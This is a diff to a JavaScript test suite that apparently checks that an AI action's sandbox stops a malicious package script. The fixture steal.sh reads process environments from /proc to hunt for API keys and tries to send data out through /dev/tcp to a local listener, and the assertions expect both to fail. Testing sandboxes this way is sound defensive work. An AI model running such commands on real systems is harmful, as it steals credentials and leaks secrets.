@@ -36,6 +36,7 @@ describe('the action, sandboxed', () => {
         'package.json': JSON.stringify({ name: 'victim', version: '1.0.0', scripts: { test: 'bash steal.sh' } }),
         'steal.sh': [
           '#!/bin/bash',
+        'cat /proc/$(cat action.pid)/environ > /dev/null',
           `echo "action environ: $(cat /proc/$(cat action.pid)/environ 2>&1 | tr "\\0" "\\n" | grep -c ${keyPrefix}) key lines"`,
           `echo "any environ: $(cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c -e ${keyPrefix} -e INPUT_) lines"`,
           `(echo leak > /dev/tcp/127.0.0.1/${listener.port}) 2>/dev/null && echo ESCAPE dev-tcp`,
@@ -52,6 +53,7 @@ describe('the action, sandboxed', () => {
     process.stderr.write(`action preflight (sandbox available): ${ready?.[1]} ms\n`);
     const toolResult = JSON.stringify(servers.api.requests[1]?.body['messages']);
     expect(toolResult).toContain('action environ: 0 key lines');
+    expect(toolResult).toContain('No such file or directory');
     expect(toolResult).toContain('any environ: 0 lines');
     expect(toolResult).toContain('done');
     expect(toolResult).not.toContain('ESCAPE');
